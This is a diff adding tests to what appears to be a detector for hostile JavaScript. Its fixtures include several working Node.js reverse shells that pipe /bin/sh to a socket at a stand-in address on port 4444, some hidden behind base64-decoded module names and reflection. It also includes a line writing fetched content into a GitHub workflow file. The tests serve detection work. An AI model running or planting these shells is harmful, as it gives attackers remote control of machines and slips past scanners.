@@ -107,3 +107,59 @@ def test_an_empty_part_does_not_lead_to_the_root() -> None:
         "fs.writeFileSync(path.join(root, '.github', 'workflows', 'a.yml'), fetch(address));"
     )
     assert ".github/workflows/a.yml" in {fact.detail for fact in look(code).facts}
+
+
+_NAMES = "['bmV0', 'Y2hpbGRfcHJvY2Vzcw==', 'c3Bhd24=', 'Y29ubmVjdA==']"
+_JOIN = "s.pipe(p.stdin); p.stdout.pipe(s);"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        (
+            f"const n = {_NAMES}.map((e) => Buffer.from(e, 'base64').toString());\n"
+            "const load = (e) => Reflect.apply(module.constructor._load, null, [e, module, false]);\n"
+            "const s = Reflect.get(load(n[0]), n[3])(4444, [203, 0, 113, 42].join('.'));\n"
+            f"const p = Reflect.get(load(n[1]), n[2])('/bin/sh', []);\n{_JOIN}\nmodule.exports = 1;"
+        ),
+        (
+            f"const n = {_NAMES}.map(function (e) {{ return atob(e); }});\n"
+            "const load = process.mainModule.constructor._load;\n"
+            f"const s = load(n[0])[n[3]](4444, '203.0.113.42'), p = load(n[1])[n[2]]('sh');\n{_JOIN}"
+        ),
+        (
+            "const need = (name) => require(name);\n"
+            f"const s = need('net').connect(4444, '203.0.113.42'), p = need('child_process').spawn('sh');\n{_JOIN}"
+        ),
+        (
+            "const net = require('net'), { spawn } = require('child_process');\n"
+            "const s = Reflect.construct(net.Socket, []);\n"
+            f"s.connect(4444, '203.0.113.42');\nconst p = Reflect.apply(spawn, null, ['sh', ['-i']]);\n{_JOIN}"
+        ),
+    ],
+)
+def test_a_shell_joined_to_a_socket_by_names_that_are_put_together(code: str) -> None:
+    """Names that are decoded in a list, modules that a function loads and calls by reflection hide no shell."""
+    assert Behaviour.CONNECTS_BACK in {fact.behaviour for fact in look(code).facts}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"const n = {_NAMES}.map((e) => Buffer.from(e, 'base64').toString());\nconsole.log(n[0], n[3]);",
+        "module.exports = (f) => new Proxy(f, { apply: (to, self, given) => Reflect.apply(to, self, given) });",
+        (
+            "const need = (name) => require(name);\nconst s = need('net').connect(4444, '203.0.113.42');\n"
+            "need('child_process').spawn('git', ['log']);\nconsole.log(s);"
+        ),
+    ],
+)
+def test_reflection_and_decoded_lists_of_everyday(code: str) -> None:
+    """Decoded labels, proxies and modules loaded by a function are nothing by themselves."""
+    telling = {Behaviour.CONNECTS_BACK, Behaviour.RUNS_CODE, Behaviour.IMPORTS_DYNAMICALLY}
+    assert not [way for way in look(code).flows if way.sink.behaviour in telling]
+
+
+def test_a_function_constructed_by_reflection_runs_what_was_decoded() -> None:
+    """`Reflect.construct(Function, […])` is `new Function(…)`."""
+    assert (Behaviour.DECODES, Behaviour.RUNS_CODE) in ways(f"Reflect.construct(Function, [{_CODES}])();")
